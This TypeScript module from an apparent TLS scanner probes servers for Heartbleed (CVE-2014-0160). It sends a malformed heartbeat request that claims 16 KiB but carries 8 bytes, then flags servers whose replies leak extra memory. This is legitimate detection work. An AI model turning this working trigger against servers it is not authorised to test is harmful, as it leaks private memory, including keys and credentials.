import type { ProbeConnection } from '../connection.js';
import type { TestOutcome } from '../types.js';
import {
  CONTENT_TYPE,
  HEARTBEAT_MODE,
  buildMalformedHeartbeatRequest,
  encodeRecord,
  heartbeatExtension,
} from '../wire/index.js';
import { readReaction } from './follow-up.js';
import { sendHello, type HelloSpec } from './hello.js';

export interface HeartbeatFacts {
  /** The server accepted the heartbeat extension (RFC 6520). */
  readonly heartbeat: boolean;
  /** CVE-2014-0160: not-applicable when the server has no heartbeat. */
  readonly heartbleed: TestOutcome;
}

/** Bytes we claim in the malformed request: enough to see a leak, small enough to be polite. */
const CLAIMED = 0x4000;
const PAYLOAD = new TextEncoder().encode('certgrid');

/**
 * Heartbleed: a hello offering the heartbeat extension; if the server accepts it, a heartbeat request
 * claiming 16 KiB of payload but carrying 8 bytes, sent before the handshake finishes (the bug sits
 * below the handshake state machine, so no keys are needed). A patched server discards it silently
 * (RFC 6520 §4); a vulnerable one answers with a response longer than what we sent: memory it leaked.
 */
export async function heartbleedProbe(
  conn: ProbeConnection,
  spec: HelloSpec,
  waitMs = 1_500,
): Promise<HeartbeatFacts> {
  const outcome = await sendHello(conn, {
    ...spec,
    extensions: [...(spec.extensions ?? []), heartbeatExtension(HEARTBEAT_MODE.peer_allowed_to_send)],
  });
  if (outcome.kind !== 'tls') {
    return { heartbeat: false, heartbleed: { status: 'failed', detail: 'no TLS 1.2-or-older handshake' } };
  }
  const hello = outcome.flight.serverHello;
  if (hello.heartbeatMode === undefined) {
    return {
      heartbeat: false,
      heartbleed: { status: 'not-vulnerable', detail: 'heartbeat extension not supported' },
    };
  }
  await conn.write(
    encodeRecord(CONTENT_TYPE.heartbeat, hello.version, buildMalformedHeartbeatRequest(CLAIMED, PAYLOAD)),
  );
  // A leaking answer is one record as long as the length we claimed: allow records up to 64 KiB.
  const reaction = await readReaction(
    conn,
    waitMs,
    (records) => records.some((r) => r.type === CONTENT_TYPE.heartbeat),
    { maxRecordLength: 0xffff },
  );
  const answer = reaction.records.find((r) => r.type === CONTENT_TYPE.heartbeat);
  if (answer !== undefined && answer.fragment.length > 3 + PAYLOAD.length + 16) {
    return {
      heartbeat: true,
      heartbleed: { status: 'vulnerable', detail: `leaked ${answer.fragment.length} bytes` },
    };
  }
  return { heartbeat: true, heartbleed: { status: 'not-vulnerable' } };
}
